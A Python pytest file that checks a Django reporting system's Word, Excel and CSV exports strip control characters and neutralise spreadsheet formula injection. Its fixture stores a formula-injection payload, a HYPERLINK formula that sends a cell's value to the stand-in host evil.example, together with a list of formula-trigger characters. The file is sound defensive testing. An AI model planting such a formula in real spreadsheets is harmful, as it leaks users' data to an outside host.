"""Every document and export can be written from any stored text, and no export hands out a formula.

What is already in the database may hold what no .docx or .xlsx may: Word's manual line break
("\\x0b", pasted into a textarea), other control characters, "\\u2028", "\\ufffe". And text a
spreadsheet would run as a formula (=, +, -, @). Here a measure, a project's title, a unit's name,
an indicator and the plan's title hold all of that, written straight into the database (no save(),
no door, no signal: what a row of an older version might hold), and every document and export
is made from it and opened again: the bulletin's preview and issue, the unit's Word and Excel
forms, the blank form, every export as CSV, XLSX and Word, through the pages and through the
background job.

The scene: Lena (县教育体育局, lead on project 1) submitted Q1 and Cora accepted it.
"""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
import time_machine
from django.core.files.storage import default_storage
from django.db import connection
from django.urls import reverse
from docx import Document
from openpyxl import load_workbook

from shishi.bulletins.models import Bulletin
from shishi.directory.models import Unit
from shishi.exports.jobs import run_job, start_export
from shishi.exports.models import ExportJob
from shishi.exports.tables import TABLES, table_for
from shishi.notice.text import clean_text
from shishi.plans.models import Plan, Project, Target
from shishi.reporting.models import ReportLine, ReportVersion
from shishi.reporting.services import (
    LineEntry,
    accept_report,
    attach_stamped_pdf,
    save_draft,
    start_report,
    submit_report,
)
from tests.conftest import pdf_bytes

NOW = datetime.datetime(2023, 4, 20, 10, 0, tzinfo=datetime.timezone(datetime.timedelta(hours=8)))
FORMULA_SIGNS = tuple("=+-@\t\r＝＋－＠")


def every_control_character() -> str:
    """chr(0)…chr(31), DEL, LINE SEPARATOR and U+FFFE: PostgreSQL stores no NUL at all, so there
    a row cannot hold one and none is written."""
    first = 1 if connection.vendor == "postgresql" else 0
    return "".join(chr(code) for code in range(first, 32)) + "\x7f\u2028\ufffe"


@pytest.fixture
def stored(cast, plan, q1):
    """The scene, then dirty text written into the rows as they are."""
    lena, cora = cast["lena"], cast["cora"]
    report = start_report(lena.unit, q1)
    entries = {
        line.project_id: LineEntry(
            "教体局一季度完成3所幼儿园主体工程。",
            "2023年12月31日",
            "on_schedule",
            {v.target_id: Decimal("3") for v in line.values.all()},
        )
        for line in report.lines.prefetch_related("values")
    }
    report = save_draft(report, lena, report.revision, entries)
    attach_stamped_pdf(report, lena, pdf_bytes(), "盖章.pdf")
    report.refresh_from_db()
    submit_report(report, lena, report.revision)
    report.refresh_from_db()
    accept_report(report, cora)

    controls = every_control_character()
    texts = {
        # the measure: a formula first, Word's manual line break inside, every control character after
        "measures": '=HYPERLINK("http://evil.example/?x="&B3,"点击查看附件")第一行\x0b第二行'
        + controls
        + "完",
        "title": "+实施优质教育资源" + controls + "扩容提质行动",
        "unit": "-县教育体育局" + controls,
        "indicator": "@新改扩建幼儿园" + controls,
        "plan": "=桓台县人民政府办公室关于2023年为妇女儿童办实事的通知" + controls,
    }
    project = Project.objects.get(plan=plan, seq=1)
    Project.objects.filter(pk=project.pk).update(title=texts["title"])
    Unit.objects.filter(pk=lena.unit_id).update(name=texts["unit"])
    Target.objects.filter(pk=project.targets.order_by("pk").first().pk).update(indicator=texts["indicator"])
    Plan.objects.filter(pk=plan.pk).update(title=texts["plan"])
    ReportLine.objects.filter(report=report).update(measures=texts["measures"])
    for version in ReportVersion.objects.filter(report=report):
        for line in version.content["lines"]:
            line.update(measures=texts["measures"], title=texts["title"])
        ReportVersion.objects.filter(pk=version.pk).update(content=version.content)
    assert Unit.objects.get(pk=lena.unit_id).name == texts["unit"]  # stored as it was, not cleaned on the way
    shown = {key: clean_text(text) for key, text in texts.items()}
    assert shown["measures"].startswith("=HYPERLINK(") and "第一行\n第二行" in shown["measures"]
    return {
        "plan": Plan.objects.get(pk=plan.pk),
        "period": q1,
        "unit": Unit.objects.get(pk=lena.unit_id),
        "texts": texts,
        "shown": shown,
    }


@pytest.fixture(autouse=True)
def today():
    with time_machine.travel(NOW, tick=False):
        yield


# --- reading what was written ------------------------------------------------------------------


def docx_text(data: bytes) -> str:
    """Every paragraph and table cell of the document, opened again by python-docx."""
    document = Document(io.BytesIO(data))
    parts = [p.text for p in document.paragraphs]
    parts += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    parts += [document.core_properties.title or "", document.core_properties.author or ""]
    return "\n".join(parts)


def xlsx_cells(data: bytes) -> list:
    """Every written cell of the workbook, opened again by openpyxl; none may be a formula."""
    book = load_workbook(io.BytesIO(data))
    cells = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [
        cell.coordinate
        for cell in cells
        if isinstance(cell.value, str)
        and cell.value.startswith(FORMULA_SIGNS)
        and len(cell.value) > 1
        and not cell.quotePrefix
    ] == []
    return cells


def xlsx_text(data: bytes) -> str:
    return "\n".join(str(cell.value) for cell in xlsx_cells(data))


def csv_text(data: bytes) -> str:
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    assert [
        cell for cell in cells if cell.startswith(FORMULA_SIGNS) and len(cell) > 1 and not _number(cell)
    ] == []
    return "\n".join(cells)


def text_of(data: bytes, fmt: str) -> str:
    return {"docx": docx_text, "xlsx": xlsx_text, "csv": csv_text}[fmt](data)


def assert_clean(text: str, *expected: str) -> None:
    """No character a document may not hold (tabs and line feeds are text), and what was stored
    arrived, cleaned."""
    assert clean_text(text) == text, [hex(ord(ch)) for ch in text if clean_text(ch) != ch]
    missing = [shown for shown in expected if shown not in text]
    assert missing == []


def _number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


# --- the bulletin ------------------------------------------------------------------------------


def test_the_bulletin_preview_is_written(client, cast, stored):
    client.force_login(cast["cora"])
    response = client.get(reverse("bulletins:preview", args=[stored["plan"].pk, 1]))
    assert response.status_code == 200
    shown = stored["shown"]
    assert_clean(
        docx_text(response.content),
        shown["measures"],
        shown["title"],
        shown["unit"],
        shown["indicator"],
        shown["plan"],
    )


def test_the_bulletin_is_issued_and_opens(client, cast, stored):
    client.force_login(cast["cora"])
    title = "关于2023年为妇女儿童办实事\x01第一季度进展情况的通报"
    response = client.post(reverse("bulletins:issue", args=[stored["plan"].pk, 1]), {"title": title})
    assert response.status_code == 302
    bulletin = Bulletin.objects.get()
    data = client.get(reverse("bulletins:download", args=[bulletin.pk])).content
    shown = stored["shown"]
    text = docx_text(data)
    assert_clean(
        text, shown["measures"], shown["title"], shown["unit"], shown["indicator"], clean_text(title)
    )


def test_in_the_bulletin_a_stored_manual_line_break_is_a_line_break(cast, stored):
    from shishi.bulletins.services import preview_bulletin

    draft = preview_bulletin(stored["plan"], stored["period"], NOW.date())
    document = Document(io.BytesIO(draft.data))
    cell = next(c for c in document.tables[-1].columns[4].cells if "第一行" in c.text)  # 措施
    lines = [p.text for p in cell.paragraphs]
    assert lines[0] == stored["shown"]["measures"].split("\n")[0] and lines[1].startswith("第二行")
    heading = next(p for p in document.paragraphs if "扩容提质行动" in p.text)
    assert heading._p.xpath(".//w:br")  # the title's stored line break, as Word writes one


# --- the official form -------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["docx", "xlsx"])
@pytest.mark.parametrize("who", ["lena", "cora"])  # her own draft; the submitted version
def test_the_units_form_is_written(client, cast, stored, who, fmt):
    client.force_login(cast[who])
    url = reverse("documents:unit_file", args=[stored["plan"].pk, 1, stored["unit"].pk, fmt])
    response = client.get(url)
    assert response.status_code == 200
    shown = stored["shown"]
    assert_clean(text_of(response.content, fmt), shown["measures"], shown["title"], shown["unit"])


def test_in_the_forms_a_stored_manual_line_break_is_a_line_break(client, cast, stored):
    client.force_login(cast["lena"])
    url = reverse("documents:unit_file", args=[stored["plan"].pk, 1, stored["unit"].pk, "docx"])
    table = Document(io.BytesIO(client.get(url).content)).tables[0]
    cell = table.rows[1].cells[3]
    assert cell.paragraphs[1].text.startswith("第二行")  # a paragraph of the cell, as the base writes lines
    url = reverse("documents:unit_file", args=[stored["plan"].pk, 1, stored["unit"].pk, "xlsx"])
    cell = next(c for c in xlsx_cells(client.get(url).content) if "第一行" in str(c.value))
    assert "第一行\n第二行" in cell.value and cell.alignment.wrap_text
    assert cell.value == stored["shown"]["measures"] and cell.quotePrefix  # text, not a formula


@pytest.mark.parametrize("fmt", ["docx", "xlsx"])
def test_the_blank_form_is_written(client, cast, stored, fmt):
    client.force_login(cast["cora"])
    response = client.get(reverse("documents:blank", args=[stored["plan"].pk, fmt]))
    assert response.status_code == 200
    assert_clean(text_of(response.content, fmt), stored["shown"]["title"], stored["shown"]["unit"])


# --- exports -----------------------------------------------------------------------------------


def expected_in(kind: str, shown: dict) -> list[str]:
    return {
        "plans": [shown["plan"]],
        "projects": [shown["title"], shown["unit"]],
        "targets": [shown["title"], shown["indicator"]],
        "reports": [shown["unit"], shown["title"], shown["measures"]],
        "figures": [shown["unit"], shown["title"], shown["indicator"]],
    }[kind]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", sorted(TABLES))
def test_every_export_is_written(client, cast, stored, kind, fmt):
    client.force_login(cast["cora"])
    response = client.get(reverse("exports:plan", args=[stored["plan"].pk, kind, fmt]))
    assert response.status_code == 200
    text = text_of(response.content, fmt)
    assert_clean(text, *expected_in(kind, stored["shown"]))
    if fmt == "csv" and kind == "reports":
        assert "'" + stored["shown"]["measures"] in text


@pytest.mark.parametrize("kind", sorted(TABLES))
def test_every_export_is_written_as_word_too(cast, stored, kind):
    table = table_for(cast["cora"], kind, stored["plan"])
    assert_clean(docx_text(table.to_docx()), *expected_in(kind, stored["shown"]))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", sorted(TABLES))
def test_every_background_export_is_written(cast, stored, kind, fmt):
    job = run_job(start_export(cast["cora"], kind, fmt).pk)
    assert job.state == ExportJob.State.DONE, job.error
    with default_storage.open(job.file.name, "rb") as handle:
        assert_clean(text_of(handle.read(), fmt), *expected_in(kind, stored["shown"]))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("table", ["themes", "indicators"])
def test_the_comparisons_across_counties_are_written(client, cast, world, stored, table, fmt):
    client.force_login(cast["cici"])
    response = client.get(reverse("comparisons:counties_export", args=[world["city"].pk, 2023, table, fmt]))
    assert response.status_code == 200
    # Indicators are lined up by a normalised name (comparisons.indicators), not shown as stored.
    assert_clean(text_of(response.content, fmt), *([stored["shown"]["title"]] if table == "themes" else []))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("table", ["continuity", "indicators"])
def test_the_comparisons_across_years_are_written(client, cast, world, stored, table, fmt):
    client.force_login(cast["cici"])
    response = client.get(reverse("comparisons:years_export", args=[world["huantai"].pk, table, fmt]))
    assert response.status_code == 200
    assert_clean(text_of(response.content, fmt))


@pytest.mark.parametrize(("table", "expected"), [("projects", ["title", "indicator"]), ("units", ["unit"])])
def test_the_year_end_summary_is_written(client, cast, stored, table, expected):
    client.force_login(cast["cora"])
    response = client.get(reverse("supervision:year_end", args=[stored["plan"].pk]), {"xlsx": table})
    assert response.status_code == 200
    assert_clean(xlsx_text(response.content), *(stored["shown"][key] for key in expected))
